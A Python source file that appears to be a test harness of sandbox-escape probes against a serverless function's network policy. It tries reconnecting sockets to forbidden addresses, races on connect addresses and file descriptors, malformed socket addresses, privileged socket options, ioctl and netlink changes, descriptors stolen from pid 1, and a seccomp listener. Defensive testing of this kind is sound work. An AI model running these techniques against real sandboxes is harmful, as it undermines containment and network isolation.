"""A function that tries to get past the policy of its network; the event says how.

Each attack answers with what it reached: a list of texts that it read where it must not, or that a step worked which
must not. An empty list is a stopped attack. The event names the addresses: `open` may be reached, `closed` not.
"""

import array
import ctypes
import errno
import fcntl
import os
import socket
import struct
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
TIMEOUT_S = 3
RACE_S = 2.0
SO_NETNS_COOKIE = 71
SYS_SENDMMSG, SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 307, 434, 438
MSG_FASTOPEN, TCP_FASTOPEN_CONNECT = 0x20000000, 30
SIOCGIFCONF, SIOCGIFADDR, SIOCGSKNS, SIOCSIFADDR, SIOCADDRT = 0x8912, 0x8915, 0x894C, 0x8916, 0x890B


def handler(event, context):
    return globals()[event["do"]](**event.get("with", {}))


def family_of(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def packed(address, port):
    if ":" in address:
        return struct.pack("=H", socket.AF_INET6) + struct.pack("!HI", port, 0) + \
            socket.inet_pton(socket.AF_INET6, address) + b"\0" * 4
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(address) + b"\0" * 8


def connected(address, port):
    made = socket.socket(family_of(address))
    made.settimeout(TIMEOUT_S)
    made.connect((address, port))
    return made


def raw_connect(number, address):
    """Straight to the kernel; 0 or the error's number."""
    return ctypes.get_errno() if libc.connect(number, address, len(address)) else 0


def connect_twice(connection, target):
    """The kernel tells the end of an earlier connect first, and only then makes another."""
    connection.setblocking(True)
    for _ in range(2):
        raw_connect(connection.fileno(), packed(*target))


def elsewhere(connection, open):
    """The peer, if it is not the one that is open."""
    peer = works(connection.getpeername)
    return [f"connected to {peer}"] if peer and list(peer[:2]) != list(open) else []


def works(step, *arguments):
    try:
        return step(*arguments)
    except (OSError, TimeoutError):
        return None


def words(connection):
    """What a server that greets says."""
    connection.settimeout(0.3)
    return works(connection.recv, 100) or b""


def told(connection):
    text = words(connection)
    return [text.decode(errors="replace")] if text else []


# ---- a socket that is connected is used for another destination ----

def connect_again(open, closed):
    """On one that has a connection."""
    found = []
    for target in closed:
        with connected(*open) as connection:
            connect_twice(connection, target)
            found += elsewhere(connection, open) + told(connection)
    return found


def connect_after_disconnect(open, closed):
    """AF_UNSPEC takes the peer away; what follows must not be the host's own business."""
    found = []
    for target in closed:
        for unspecified in (b"\0" * 16, b"\0" * 2, b"\0" * 28, b"\0" * 128):
            with connected(*open) as connection:
                raw_connect(connection.fileno(), unspecified)
                connect_twice(connection, target)
                found += elsewhere(connection, open) + told(connection)
    return found


def connect_after_failure(refusing, closed):
    """On one whose connect failed, which is of the host's network if it failed late."""
    found = []
    for target in closed:
        with socket.socket(family_of(refusing[0])) as connection:
            connection.settimeout(TIMEOUT_S)
            connection.connect_ex(tuple(refusing))
            connect_twice(connection, target)
            found += told(connection)
    return found


def connect_after_end(resetting, open, closed):
    """On one whose connection is over: closed on both sides, or reset."""
    found = []
    for target in closed:
        with connected(*open) as connection:
            connection.shutdown(socket.SHUT_RDWR)
            connect_twice(connection, target)
            found += told(connection)
        with connected(*resetting) as connection:
            connection.sendall(b"xx")
            works(connection.recv, 1)
            connect_twice(connection, target)
            found += told(connection)
    return found


def connect_while_pending(dark, closed):
    """On one whose connect is under way."""
    found = []
    for target in closed:
        with socket.socket(family_of(dark[0])) as connection:
            connection.setblocking(False)
            connection.connect_ex(tuple(dark))
            for address in (packed(*target), b"\0" * 16, packed(*target)):
                raw_connect(connection.fileno(), address)
            found += told(connection)
    return found


def is_own(connection):
    """Whether a socket is of this environment's network, by the kernel's number of it."""
    with socket.socket() as own:
        return len({one.getsockopt(socket.SOL_SOCKET, SO_NETNS_COOKIE, 8) for one in (connection, own)}) == 1


def own_server_on_it(open, resetting):
    """bind, listen and accept on a socket of the host's network."""
    found = []
    disconnect = lambda connection: raw_connect(connection.fileno(), b"\0" * 16)  # noqa: E731
    for prepare in (lambda c: None, lambda c: c.shutdown(socket.SHUT_RDWR), disconnect):
        with connected(*open) as connection:
            prepare(connection)
            if is_own(connection):
                # Another was put in its place, which may be a server here.
                continue
            for address in (("0.0.0.0", 6001), ("127.0.0.1", 6001), ("0.0.0.0", 0)):
                if works(lambda: connection.bind(address) or True):
                    found.append(f"bound to {address}")
            if works(lambda: connection.listen() or True):
                found.append("listens")
            connection.settimeout(0.2)
            if works(connection.accept):
                found.append("accepted")
    return found


def bind_first(open):
    """To addresses that are not this environment's; and a port of its own is kept inside."""
    found = []
    for address in ("203.0.113.2", "10.77.0.2", "203.0.113.10", "169.254.169.254"):
        with socket.socket() as connection:
            if works(lambda: connection.bind((address, 0)) or True):
                found.append(f"bound to {address}")
    return found


# ---- an address where a filter may not look ----

def address_beside_data(open, closed):
    """sendto, sendmsg and sendmmsg with an address, on connected and on fresh sockets of each kind."""
    found = []
    for target in closed:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            for make in (lambda: socket.socket(family_of(target[0]), kind), lambda: connected(*open)):
                with make() as sender:
                    sender.settimeout(0.3)
                    for flags in (0, MSG_FASTOPEN, MSG_FASTOPEN | socket.MSG_DONTWAIT):
                        works(sender.sendto, b"x", flags, tuple(target))
                        works(sender.sendmsg, [b"x"], [], flags, tuple(target))
                        sendmmsg(sender.fileno(), packed(*target), flags)
                    # What is connected may say that what came is what was sent.
                    found += elsewhere(sender, open) + [text for text in told(sender) if text.strip("x")]
    return found


def sendmmsg(number, address, flags):
    name, data = ctypes.create_string_buffer(address), ctypes.create_string_buffer(b"x")
    vector = (ctypes.c_void_p * 2)(ctypes.addressof(data), 1)
    message = struct.pack("QIxxxxQQQQixxxxIxxxx", ctypes.addressof(name), len(address), ctypes.addressof(vector), 1,
                          0, 0, 0, 0)
    libc.syscall(SYS_SENDMMSG, number, message, 1, flags)


def fast_open(open, closed):
    """A connect that is made by the first write."""
    found = []
    for target in closed:
        with socket.socket(family_of(target[0])) as connection:
            connection.settimeout(0.5)
            if works(lambda: connection.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1) or True):
                found.append("TCP_FASTOPEN_CONNECT is set")
            works(connection.connect, tuple(target))
            works(connection.send, b"x")
            found += told(connection)
    return found


def race_the_address(open, closed):
    """One thread connects, another rewrites the address in its memory."""
    found, sizes = [], {len(packed(*open)), len(packed(*closed))}
    shared = ctypes.create_string_buffer(max(sizes))
    stop, flips = threading.Event(), (packed(*open), packed(*closed))

    def flip():
        address = ctypes.addressof(shared)
        while not stop.is_set():
            for one in flips:
                ctypes.memmove(address, one, len(one))

    flippers = [threading.Thread(target=flip) for _ in range(2)]
    [flipper.start() for flipper in flippers]
    tries, deadline = 0, time.monotonic() + RACE_S
    while time.monotonic() < deadline:
        with socket.socket(family_of(open[0])) as connection:
            tries += 1
            if libc.connect(connection.fileno(), shared, len(shared)) == 0:
                peer = connection.getpeername()[:2]
                if list(peer) != list(open):
                    found += [f"connected to {peer}", *told(connection)]
    stop.set()
    return found if tries > 10 else ["no race was run"]


def race_the_number(open, closed):
    """While a connect waits for its answer, its number becomes that of another socket, and back."""
    found, stop = [], threading.Event()
    sockets = [socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_UNIX)]
    target = os.dup(sockets[0].fileno())

    def swap():
        while not stop.is_set():
            for one in sockets:
                os.dup2(one.fileno(), target)
            sockets[0].close()
            sockets[0] = socket.socket()

    swapper = threading.Thread(target=swap)
    swapper.start()
    deadline = time.monotonic() + RACE_S
    while time.monotonic() < deadline:
        for address in (open, *closed):
            raw_connect(target, packed(*address))
            with socket.socket(fileno=os.dup(target)) as now:
                # A datagram's peer may be this environment's own loopback.
                peer = works(now.getpeername) if now.type == socket.SOCK_STREAM else None
                if peer and list(peer[:2]) in [list(one) for one in closed]:
                    found.append(f"connected to {peer}")
    stop.set()
    swapper.join()
    return found


def race_the_disconnect(open, closed):
    """One thread connects to what is open, another takes the peer away and connects elsewhere."""
    found, deadline = [], time.monotonic() + RACE_S
    while time.monotonic() < deadline:
        with socket.socket(family_of(open[0])) as connection:
            # Linux sends nothing that arrives for a socket that went to ::ffff:0:0/96 before and to other IPv6 now.
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("qq", 0, 200_000))
            number, threads = connection.fileno(), []
            for address in (b"\0" * 16, *[packed(*target) for target in closed]):
                threads.append(threading.Thread(target=raw_connect, args=(number, address)))
            [thread.start() for thread in threads]
            raw_connect(number, packed(*open))
            [thread.join() for thread in threads]
            found += elsewhere(connection, open)
    return found


# ---- options and controls of sockets ----

OPTIONS = {
    "IP_OPTIONS": (0, 4, bytes([131, 7, 4, 127, 0, 0, 1, 0])),
    "IP_TRANSPARENT": (0, 19, 1), "IP_FREEBIND": (0, 15, 1), "IP_HDRINCL": (0, 3, 1), "IP_UNICAST_IF": (0, 50, 1),
    "IP_MULTICAST_IF": (0, 32, b"\0" * 12), "IP_ADD_MEMBERSHIP": (0, 35, socket.inet_aton("224.0.0.251") + b"\0" * 4),
    "IP_IPSEC_POLICY": (0, 16, b"\0" * 64), "IP_XFRM_POLICY": (0, 17, b"\0" * 64),
    "IPT_SO_SET_REPLACE": (0, 64, b"\0" * 96), "IP6T_SO_SET_REPLACE": (41, 64, b"\0" * 96),
    "IPV6_RTHDR": (41, 57, bytes([0, 2, 0, 1]) + b"\0" * 20), "IPV6_HOPOPTS": (41, 54, b"\0" * 8),
    "IPV6_DSTOPTS": (41, 59, b"\0" * 8), "IPV6_RTHDRDSTOPTS": (41, 55, b"\0" * 8), "IPV6_2292PKTOPTIONS": (41, 6, b""),
    "IPV6_PKTINFO": (41, 50, b"\0" * 20), "IPV6_TRANSPARENT": (41, 75, 1), "IPV6_FREEBIND": (41, 78, 1),
    "IPV6_NEXTHOP": (41, 9, b"\0" * 28), "IPV6_ADDRFORM": (41, 1, 2),
    "IPV6_JOIN_GROUP": (41, 20, b"\xff\x02" + b"\0" * 18),
    "SO_BINDTODEVICE": (1, 25, b"eth0\0"), "SO_BINDTOIFINDEX": (1, 62, 2), "SO_MARK": (1, 36, 1), "SO_DEBUG": (1, 1, 1),
    "SO_SNDBUFFORCE": (1, 32, 1 << 24), "SO_RCVBUFFORCE": (1, 33, 1 << 24), "SO_ATTACH_BPF": (1, 50, 3),
    "SO_TXTIME": (1, 61, b"\0" * 8), "SO_NETNS_COOKIE": (1, 71, b"\0" * 8),
    "TCP_REPAIR": (6, 19, 1), "TCP_REPAIR_QUEUE": (6, 20, 1), "TCP_REPAIR_OPTIONS": (6, 22, b"\0" * 8),
    "TCP_FASTOPEN": (6, 23, 5), "TCP_FASTOPEN_CONNECT": (6, 30, 1), "TCP_FASTOPEN_KEY": (6, 33, b"\0" * 16),
    "TCP_ULP": (6, 31, b"tls\0"), "TCP_MD5SIG": (6, 14, b"\0" * 216), "TCP_MD5SIG_EXT": (6, 38, b"\0" * 216),
    "TCP_AO_ADD_KEY": (6, 40, b"\0" * 280), "TCP_ZEROCOPY_RECEIVE": (6, 35, b"\0" * 64), "MPTCP_INFO": (284, 1, 1),
    "SOL_ALG": (279, 1, b"\0" * 16), "SOL_XDP": (283, 1, 1), "SOL_TLS": (282, 1, b"\0" * 40),
}


def options(open):
    """Before a connect and on what it made: each option that would turn traffic or the host's tables."""
    found = []
    for what, made in (("fresh", socket.socket()), ("fresh 6", socket.socket(socket.AF_INET6)),
                       ("connected", connected(*open))):
        for name, (level, option, value) in OPTIONS.items():
            if works(lambda: made.setsockopt(level, option, value) or True):
                found.append(f"{name} is set on a {what} socket")
        made.close()
    return found


def controls(open):
    """What ioctl tells of the host, or changes, through one of its sockets."""
    found = []
    with connected(*open) as connection, socket.socket() as own:
        names = array.array("B", b"\0" * 4096)
        asked = struct.pack("iP", 4096, names.buffer_info()[0])
        for one in (connection, own):
            if answer := works(fcntl.ioctl, one.fileno(), SIOCGIFCONF, asked):
                size = struct.unpack("iP", answer)[0]
                found += [name for name in ("eth0", "lan0") if name.encode() in names.tobytes()[:size]]
            for name in (b"eth0", b"lan0"):
                for request in range(0x8910, 0x8950):
                    request_of_device = struct.pack("16s16x8x", name)
                    if request not in (SIOCGIFCONF, 0x8910) and works(fcntl.ioctl, one.fileno(), request,
                                                                      request_of_device):
                        found.append(f"ioctl {request:#x} of {name.decode()} is answered")
            if works(fcntl.ioctl, one.fileno(), SIOCGSKNS) is not None:
                found.append("a handle of a network name space")
            for request in (SIOCSIFADDR, SIOCADDRT, 0x8914, 0x8922, 0x8924, 0x8946):
                if works(lambda: fcntl.ioctl(one.fileno(), request, b"\0" * 128) or True):
                    found.append(f"ioctl {request:#x} works")
    return found


def interface_names(open):
    """Names by number and numbers by name, on a socket of the host's network."""
    found = []
    with connected(*open) as connection:
        for index in range(1, 9):
            asked = struct.pack("16si20x", b"", index)
            if (answer := works(fcntl.ioctl, connection.fileno(), 0x8910, asked)) and index > 1:
                found.append(answer[:16].rstrip(b"\0").decode())
    return found


def netlink(open):
    """Routes and addresses can be asked for, and are this environment's own; nothing can be changed."""
    found = []
    for kind in (18, 22, 26):
        answer = ask(struct.pack("=IHHIIB3x", 20, kind, 0x301, 1, 0, 0))
        found += [name.decode() for name in (b"eth0", b"lan0") if name in answer]
    for kind in (16, 20, 24, 32, 40):
        answer = ask(struct.pack("=IHHII16s", 32, kind, 0x605, 2, 0, b"\2\0\0\0" + b"\0" * 12))
        if struct.unpack_from("=H", answer, 4)[0] == 2 and struct.unpack_from("=i", answer, 16)[0] == 0:
            found.append(f"a change of kind {kind} is made")
    return found


def ask(message):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as asker:
        asker.settimeout(TIMEOUT_S)
        asker.bind((0, 0))
        asker.send(message)
        return works(asker.recv, 1 << 16) or b"\0" * 20


# ---- sockets that travel ----

def through_another_process(open, closed):
    """A socket is made here, connected there, used here: by inheritance and by a message."""
    found = []
    for target in closed:
        fresh, here, there = socket.socket(family_of(target[0])), *socket.socketpair()
        child = os.fork()
        if child == 0:
            received = socket.recv_fds(there, 1, 1)[1][0]
            raw_connect(received, packed(*target))
            raw_connect(fresh.fileno(), packed(*target))
            socket.send_fds(there, [b"x"], [received])
            os._exit(0)
        socket.send_fds(here, [b"x"], [fresh.fileno()])
        back = socket.recv_fds(here, 1, 1)[1][0]
        os.waitpid(child, 0)
        for one in (fresh, socket.socket(fileno=back)):
            found += told(one)
            raw_connect(one.fileno(), packed(*target))
            found += told(one)
        # And one that is connected already.
        carried = connected(*open)
        if os.fork() == 0:
            connect_twice(carried, target)
            os._exit(0)
        os.wait()
        found += elsewhere(carried, open) + told(carried)
    return found


def through_proc(open):
    """Numbers of this process and of pid 1 by their names in /proc, and by handles of processes."""
    found = []
    with connected(*open) as connection:
        if works(os.open, f"/proc/self/fd/{connection.fileno()}", os.O_RDWR) is not None:
            found.append("a socket is opened by its name")
    for name in ("fd", "fdinfo", "ns/net", "root", "cwd", "mem", "environ", "net/tcp"):
        if (text := works(os.listdir, f"/proc/1/{name}")) and name in ("fd", "fdinfo"):
            found.append(f"pid 1's {name}: {text}")
    handle = libc.syscall(SYS_PIDFD_OPEN, 1, 0)
    for number in range(20):
        if libc.syscall(SYS_PIDFD_GETFD, handle, number, 0) >= 0:
            found.append(f"descriptor {number} of pid 1")
    return found


# ---- the answers of the filter ----

def listen_for_notifications(open):
    """A filter of the function's own that would take the place of the one that asks pid 1."""
    found = []
    # Allow all, with a listener: whoever has it could answer connects instead.
    instruction = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0x7fff0000))
    program = struct.pack("HxxxxxxP", 1, ctypes.addressof(instruction))
    child = os.fork()
    if child == 0:
        os._exit(1 if libc.syscall(317, 1, 8, program) >= 0 else 0)
    if os.WEXITSTATUS(os.waitpid(child, 0)[1]):
        found.append("a listener is had")
    return found


def odd_addresses(closed):
    """Lengths and families that a reader may read otherwise than the kernel."""
    found = []
    for target in closed:
        exact = packed(*target)
        forms = [exact + b"\0" * more for more in (1, 12, 100, 111)]
        forms += [exact[:size] for size in (15, 14, 8, 3, 2, 1, 0)]
        forms += [struct.pack("=H", 0) + exact[2:], struct.pack("=H", socket.AF_INET6) + exact[2:],
                  struct.pack("=H", 0xff02) + exact[2:], struct.pack("=H", 10) + exact[2:] + b"\0" * 12]
        for form in forms:
            for family in (socket.AF_INET, socket.AF_INET6):
                with socket.socket(family) as connection:
                    libc.connect(connection.fileno(), ctypes.create_string_buffer(form, max(len(form), 1)), len(form))
                    found += told(connection)
        for size in (-1, 0x7fffffff, 129, 1 << 20):
            with socket.socket() as connection:
                libc.connect(connection.fileno(), ctypes.create_string_buffer(exact, 256), ctypes.c_int(size))
                found += told(connection)
    return found


def pending_without_end(dark, open):
    """More connects that wait than a sandbox may have; what is over fails at once, and the next works again."""
    errors = []

    def one():
        with socket.socket() as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", TIMEOUT_S, 0))
            errors.append(raw_connect(connection.fileno(), packed(*dark)))

    threads = [threading.Thread(target=one) for _ in range(300)]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]
    with connected(*open) as connection:
        connection.sendall(b"after")
        after = connection.recv(10).decode()
    return [sorted({errno.errorcode.get(error, str(error)) for error in errors}), after]


def die_while_connecting(dark, open, count):
    """Children that are killed while pid 1 and the server are at work for them; then an ordinary connection."""
    children = []
    for number in range(count):
        child = os.fork()
        if child == 0:
            for target in (open, dark):
                with socket.socket() as connection:
                    raw_connect(connection.fileno(), packed(*target))
            os._exit(0)
        children.append(child)
        time.sleep(0.0005 * (number % 10))
        if number % 3:
            os.kill(children.pop(), 9)
    for child in children:
        os.kill(child, 9)
    for _ in range(count):
        os.wait()
    with connected(*open) as connection:
        connection.sendall(b"hello")
        return connection.recv(10).decode()
